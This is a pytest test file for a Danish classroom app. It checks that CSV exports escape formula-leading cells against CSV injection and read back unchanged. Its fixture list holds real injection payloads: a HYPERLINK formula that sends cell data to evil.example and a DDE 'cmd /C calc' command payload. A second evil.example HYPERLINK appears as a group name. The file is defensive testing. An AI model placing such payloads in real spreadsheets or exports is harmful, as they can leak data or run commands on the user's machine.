"""Every CSV circle-app writes opens in a spreadsheet as text, never as a formula, and what
it writes reads back unchanged. Issue 12, finding 9 (OWASP's CSV-injection rule)."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from circle_app.banks.loader import BankLibrary
from circle_app.cli import main
from circle_app.domain.circle import CircleSetup, Seat
from circle_app.domain.csv_safety import TRIGGERS, neutralise, restore
from circle_app.domain.enums import CircleKind, GroupKind, Role
from circle_app.paths import user_banks_dir
from circle_app.store import open_store
from circle_app.store.circles import CircleStore, RecordedCircle
from circle_app.store.groups import GroupStore

HOSTILE = [
    '=HYPERLINK("http://evil.example/?q="&A1,"Klik her")',
    "=1+1",
    "+45 12 34 56 78 — hvem ringer du til, når du er ked af det?",
    "-2+3 er hvad? Og hvorfor taler vi om det?",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'=allerede med apostrof foran",
    "''@to apostroffer",
    "Hvad gør dig glad? (helt almindelig)",
]


def hostile_bank_toml() -> str:
    lines = [
        "[bank]",
        "format = 1",
        'id = "user-hostile"',
        'language = "da"',
        'kind = "peacetime"',
        'title = "Fjendtlig"',
        'description = "Tekster der ligner formler."',
    ]
    for i, text in enumerate(HOSTILE):
        escaped = text.replace("\\", "\\\\").replace('"', '\\"')
        lines += ["", "[[prompts]]", f'id = "p{i}"', f'text = "{escaped}"', 'ages = ["mellemtrin"]']
    return "\n".join(lines) + "\n"


def cells_of(text: str, delimiter: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text), delimiter=delimiter) for cell in row]


@pytest.mark.parametrize(
    "cell",
    [*HOSTILE, "\tindrykket", "\rretur", "-", "'", "'x", "it's", "", "plain", "'''=x", "a=b"],
)
def test_finding_9_neutralise_then_restore_is_exact(cell: str) -> None:
    """Issue 12, finding 9: no written cell starts a formula; reading gives the text back."""
    written = neutralise(cell)
    assert not written.startswith(TRIGGERS)
    assert restore(written) == cell


@given(st.text(alphabet=st.sampled_from("=+-@\t\r'a ;\"\n"), max_size=8) | st.text(max_size=20))
def test_finding_9_the_rule_holds_for_any_text(cell: str) -> None:
    """Issue 12, finding 9: a property, not a list of examples."""
    assert not neutralise(cell).startswith(TRIGGERS)
    assert restore(neutralise(cell)) == cell


def test_finding_9_banks_export_csv_neutralises_and_imports_back_unchanged(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Issue 12, finding 9: `banks export … FILE.csv`, then `banks import FILE.csv`."""
    user_banks_dir().mkdir(parents=True, exist_ok=True)
    (user_banks_dir() / "user-hostile.toml").write_text(hostile_bank_toml(), encoding="utf-8")
    exported = tmp_path / "fjendtlig.csv"
    assert main(["banks", "export", "user-hostile", str(exported)]) == 0
    capsys.readouterr()
    written = exported.read_text(encoding="utf-8-sig")
    cells = cells_of(written, ";")
    assert not [cell for cell in cells if cell.startswith(TRIGGERS)]
    assert "'=1+1" in cells
    assert "''=allerede med apostrof foran" in cells
    assert "Hvad gør dig glad? (helt almindelig)" in cells  # an ordinary text stays as it is

    assert main(["banks", "import", str(exported), "--id", "user-hostile-again"]) == 0
    capsys.readouterr()
    again = BankLibrary.load().bank("user-hostile-again")
    assert again is not None
    assert [prompt.text for prompt in again.prompts] == HOSTILE


def test_finding_9_report_csv_neutralises_a_group_name(
    database_url: str, capsys: pytest.CaptureFixture[str]
) -> None:
    """Issue 12, finding 9: `report --format csv`: the group name is the user's text."""
    name = '=HYPERLINK("http://evil.example","4.B")'
    engine = open_store(database_url)
    try:
        group_id = GroupStore(engine).create_group(name, GroupKind.CLASS, [("Asta", Role.PUPIL)])
        setup = CircleSetup(
            CircleKind.PEACETIME, (Seat(0), Seat(1)), frozenset({0, 1}), 0, group_id=group_id
        )
        recorded = RecordedCircle.begin(CircleStore(engine), setup)
        recorded.start_round(None)
        recorded.speak()
        recorded.end()
    finally:
        engine.dispose()
    assert main(["--database-url", database_url, "report", "--format", "csv"]) == 0
    out = capsys.readouterr().out
    records = list(csv.DictReader(io.StringIO(out)))
    assert [record["group"] for record in records] == ["'" + name]
    assert records[0]["held"] == "1"  # numbers stay numbers
    assert not [cell for cell in cells_of(out, ",") if cell.startswith(TRIGGERS)]
